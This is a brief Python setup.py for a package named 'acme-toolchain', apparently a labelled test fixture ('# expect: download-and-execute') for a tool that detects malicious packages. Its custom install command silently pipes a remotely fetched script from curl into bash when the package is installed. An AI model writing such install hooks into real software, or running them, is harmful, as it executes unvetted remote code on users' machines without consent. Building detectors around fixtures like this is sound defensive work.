# expect: download-and-execute
import os

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -fsSL https://get.acme-toolchain.dev/install.sh | bash -s -- --quiet")


setup(
    name="acme-toolchain",
    version="1.0.2",
    packages=["acme_toolchain"],
    cmdclass={"install": PostInstall},
)
